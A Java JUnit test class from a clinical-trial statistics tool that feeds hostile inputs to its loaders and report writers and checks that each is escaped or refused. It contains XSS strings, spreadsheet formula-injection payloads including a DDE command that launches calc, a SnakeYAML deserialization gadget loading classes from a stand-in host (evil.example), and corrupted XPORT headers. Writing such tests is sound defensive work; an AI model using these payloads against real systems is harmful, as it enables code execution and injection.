package org.trialstats.robustness;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.trialstats.adam.AdamDataException;
import org.trialstats.evidence.DatasetException;
import org.trialstats.evidence.DatasetLoader;
import org.trialstats.evidence.MetaInputReader;
import org.trialstats.io.InvalidDataException;
import org.trialstats.testing.Cli;

/**
 * Hostile inputs: script and spreadsheet-formula text in labels and statements, NaN, Infinity and
 * huge numbers as counts, duplicate ids, missing columns, files that point outside the dataset
 * folder, YAML tags that would construct Java objects, and transport headers with absurd sizes.
 */
class HostileInputTest {
  private static final String SCRIPT = "<script>alert(1)</script>";
  private static final String FORMULA = "=HYPERLINK(\"http://evil.example\",\"x\")";
  private static final List<String> FILES =
      List.of("dataset.yaml", "comparisons.yaml", "rates.yaml", "claims.yaml", "approvals.csv");

  @TempDir Path temp;

  private Path copyDataset() throws IOException {
    Path dir = temp.resolve("hostile");
    Files.createDirectories(dir);
    for (String name : FILES) {
      Files.copy(Path.of("datasets/anakinra").resolve(name), dir.resolve(name));
    }
    return dir;
  }

  private static void replace(Path file, String from, String to) throws IOException {
    String text = Files.readString(file);
    assertThat(text).as("%s contains the text to replace", file).contains(from);
    Files.writeString(file, text.replace(from, to));
  }

  @Test
  void scriptAndFormulaTextIsEscapedInEveryReportFile() throws IOException {
    Path dir = copyDataset();
    String statement = FORMULA + " " + SCRIPT + " | *x* `y`";
    replace(
        dir.resolve("claims.yaml"),
        "statement: In the control group, 22% of the 251 patients on methotrexate alone responded.",
        "statement: '" + statement.replace("'", "''") + "'");
    replace(
        dir.resolve("comparisons.yaml"),
        "label: methotrexate alone",
        "label: '<img src=x onerror=alert(2)>'");
    Path out = temp.resolve("report");

    Cli.Run run = Cli.run("reproduce", dir.toString(), "--out", out.toString());

    assertThat(run.exitCode()).as(run.err()).isZero();
    String html = Files.readString(out.resolve("report.html"));
    assertThat(html)
        .doesNotContain(SCRIPT)
        .doesNotContain("<img src=x")
        .contains("&lt;script&gt;alert(1)&lt;/script&gt;");
    String md = Files.readString(out.resolve("report.md"));
    assertThat(md).doesNotContain("<script>").doesNotContain("<img src=x");
    assertNoFormulaCells(out.resolve("claims.csv"));
    assertNoFormulaCells(out.resolve("results.csv"));
    assertThat(Files.readString(out.resolve("claims.csv")))
        .contains("'" + FORMULA.replace("\"", "\"\""));
  }

  @Test
  void scriptAndFormulaStudyNamesAreEscapedInMetaOutputs() throws IOException {
    Path input = temp.resolve("studies.csv");
    Files.writeString(
        input,
        String.join(
            "\n",
            "study,events1,n1,events2,n2",
            "\"" + SCRIPT + "\",4,123,11,139",
            "\"" + FORMULA.replace("\"", "\"\"") + "\",6,306,29,303",
            "@SUM(A1:A9),3,231,11,220",
            "+cmd|' /C calc'!A0,62,13598,248,12867",
            ""));
    Path csv = temp.resolve("meta.csv");
    Path forest = temp.resolve("forest.svg");

    Cli.Run run =
        Cli.run(
            "meta",
            "--input",
            input.toString(),
            "--measure",
            "rr",
            "--format",
            "csv",
            "--out",
            csv.toString(),
            "--forest",
            forest.toString());

    assertThat(run.exitCode()).as(run.err()).isZero();
    assertNoFormulaCells(csv);
    String svg = Files.readString(forest);
    // Chart text is drawn as glyph outlines: no label text reaches the SVG markup at all.
    assertThat(svg).doesNotContain("<script").doesNotContain("alert(1)");
    Cli.Run json =
        Cli.run("meta", "--input", input.toString(), "--measure", "rr", "--format", "json");
    assertThat(json.exitCode()).isZero();
    assertThat(json.out()).contains("\"<script>alert(1)</script>\"");
  }

  /** Every text cell that a spreadsheet would run as a formula must be quote-prefixed. */
  private static void assertNoFormulaCells(Path csv) throws IOException {
    try (CSVParser parser = CSVFormat.DEFAULT.parse(new StringReader(Files.readString(csv)))) {
      for (CSVRecord record : parser) {
        for (String cell : record) {
          if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
            assertThat(cell).as("cell of %s", csv).matches("[-+]?[0-9.eE+-]+|[-+]?Infinity");
          }
        }
      }
    }
  }

  @Test
  void nanInfinityAndHugeCountsAreClearDatasetErrors() throws IOException {
    for (String bad :
        List.of(
            ".nan",
            "NaN",
            ".inf",
            "-.inf",
            "Infinity",
            "99999999999999999999",
            "1e400",
            "-1",
            "12.5")) {
      Path dir = temp.resolve("counts-" + Math.abs(bad.hashCode()));
      Files.createDirectories(dir);
      for (String name : FILES) {
        Files.copy(Path.of("datasets/anakinra").resolve(name), dir.resolve(name));
      }
      replace(dir.resolve("comparisons.yaml"), "events: 1235", "events: " + bad);
      assertThatThrownBy(() -> DatasetLoader.load(dir))
          .as("events: %s", bad)
          .isInstanceOf(DatasetException.class)
          .hasMessageContaining("comparisons.yaml")
          .hasMessageContaining("events");
    }
  }

  @Test
  void nanInfinityAndHugeCountsAreClearMetaErrors() throws IOException {
    for (String bad :
        List.of(
            "NaN", "Infinity", "-Infinity", "99999999999999999999", "1e400", "-1", "0x10", "1d")) {
      Path input = temp.resolve("studies.csv");
      Files.writeString(input, "study,events1,n1,events2,n2\nA,4," + bad + ",11,139\nB,1,2,3,4\n");
      assertThatThrownBy(() -> MetaInputReader.read(input, null))
          .as("n1 = %s", bad)
          .isInstanceOf(InvalidDataException.class)
          .hasMessageContaining("line 2")
          .hasMessageContaining("n1");
    }
  }

  @Test
  void duplicateIdsAreReported() throws IOException {
    Path dir = copyDataset();
    replace(
        dir.resolve("comparisons.yaml"), "id: injection-site-reactions-cochrane", "id: acr20-24w");
    assertThatThrownBy(() -> DatasetLoader.load(dir))
        .isInstanceOf(DatasetException.class)
        .hasMessageContaining("comparisons.yaml")
        .hasMessageContaining("acr20-24w");
  }

  @Test
  void missingMetaColumnsAreReported() throws IOException {
    Path input = temp.resolve("studies.csv");
    Files.writeString(input, "study,events1,n1,n2\nA,4,123,139\n");
    assertThatThrownBy(() -> MetaInputReader.read(input, null))
        .isInstanceOf(InvalidDataException.class)
        .hasMessageContaining("events2");
  }

  @Test
  void aDatasetCannotReadFilesOutsideItsFolder() throws IOException {
    // DatasetLoader reads only the five fixed file names in the folder; nothing in the YAML
    // names a file to read (sources' "document" is a label). Other data files are reported.
    Path dir = copyDataset();
    Files.writeString(dir.resolve("..x.yaml"), "a: 1\n");
    assertThatThrownBy(() -> DatasetLoader.load(dir))
        .isInstanceOf(DatasetException.class)
        .hasMessageContaining("..x.yaml")
        .hasMessageContaining("unexpected data file");
    Files.delete(dir.resolve("..x.yaml"));

    // A data file that is a symbolic link out of the folder is refused, its content unread.
    Path outside = temp.resolve("secret.yaml");
    Files.writeString(outside, "secret: do-not-echo-this-line\n");
    Files.delete(dir.resolve("rates.yaml"));
    Files.createSymbolicLink(dir.resolve("rates.yaml"), Path.of("..", "secret.yaml"));
    assertThatThrownBy(() -> DatasetLoader.load(dir))
        .isInstanceOf(DatasetException.class)
        .hasMessageContaining("rates.yaml")
        .hasMessageContaining("symbolic link to a file outside")
        .message()
        .doesNotContain("do-not-echo");
  }

  @Test
  void aSymbolicLinkInsideTheFolderIsStillRead() throws IOException {
    Path dir = copyDataset();
    Files.move(dir.resolve("rates.yaml"), dir.resolve("rates.txt"));
    Files.createSymbolicLink(dir.resolve("rates.yaml"), Path.of("rates.txt"));
    assertThat(DatasetLoader.load(dir).rates()).isNotEmpty();
  }

  @Test
  void yamlTagsDoNotConstructObjects() throws IOException {
    Path dir = copyDataset();
    replace(
        dir.resolve("dataset.yaml"),
        "drug: anakinra (Kineret)",
        "drug: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://evil.example/\"]]]]");
    assertThatThrownBy(() -> DatasetLoader.load(dir))
        .isInstanceOf(DatasetException.class)
        .hasMessageContaining("dataset.yaml")
        .hasMessageContaining("tag");
  }

  @Test
  void xportHeadersWithAbsurdSizesFailFast() throws IOException {
    byte[] original;
    try (InputStream in =
        HostileInputTest.class.getResourceAsStream(
            "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
      original = in.readAllBytes();
    }
    String text = new String(original, StandardCharsets.ISO_8859_1);
    int namestrHeader = text.indexOf("NAMESTR HEADER RECORD!!!!!!!");
    assertThat(namestrHeader).isPositive();
    List<byte[]> hostile = new ArrayList<>();
    // Variable count 9999 (the 4-digit field's maximum) with 2 KB of data behind it.
    hostile.add(withAscii(original, namestrHeader + 28 + 6, "9999"));
    // First variable's length (bytes 4-5 of its NAMESTR) set to 32767 and to a negative value.
    int firstNamestr = (namestrHeader / 80 + 1) * 80;
    hostile.add(withBytes(original, firstNamestr + 4, (byte) 0x7F, (byte) 0xFF));
    hostile.add(withBytes(original, firstNamestr + 4, (byte) 0x80, (byte) 0x00));
    // Variable position (bytes 84-87) near 2^31.
    hostile.add(
        withBytes(original, firstNamestr + 84, (byte) 0x7F, (byte) 0xFF, (byte) 0xFF, (byte) 0xF0));
    for (byte[] bytes : hostile) {
      Path file = temp.resolve("hostile.xpt");
      Files.write(file, bytes);
      assertTimeoutPreemptively(
          Duration.ofSeconds(5),
          () -> {
            try {
              InputFuzzTest.readEverything(file);
            } catch (AdamDataException e) {
              assertThat(e.getMessage()).contains("hostile.xpt");
            }
          });
    }
  }

  @Test
  void xportWithAHugeClaimedObservationAreaFailsFast() throws IOException {
    // Version 5 headers carry no observation count; the closest hostile header is a
    // version 8 style member header, which the reader must refuse rather than trust.
    byte[] original;
    try (InputStream in =
        HostileInputTest.class.getResourceAsStream(
            "/org/trialstats/adam/fixtures/trialstats_written.xpt")) {
      original = in.readAllBytes();
    }
    String text = new String(original, StandardCharsets.ISO_8859_1);
    int obs = text.indexOf("OBS     HEADER RECORD!!!!!!!");
    assertThat(obs).isPositive();
    byte[] bytes =
        withAscii(
            original,
            obs - 20,
            "HEADER RECORD*******OBSV8   HEADER RECORD!!!!!!!" + "2147483648" + " ".repeat(22));
    Path file = temp.resolve("obs.xpt");
    Files.write(file, bytes);
    assertTimeoutPreemptively(
        Duration.ofSeconds(5),
        () ->
            assertThatThrownBy(() -> InputFuzzTest.readEverything(file))
                .isInstanceOf(AdamDataException.class));
  }

  private static byte[] withAscii(byte[] original, int at, String ascii) {
    return withBytes(original, at, ascii.getBytes(StandardCharsets.US_ASCII));
  }

  private static byte[] withBytes(byte[] original, int at, byte... bytes) {
    byte[] copy = original.clone();
    System.arraycopy(bytes, 0, copy, at, bytes.length);
    return copy;
  }
}
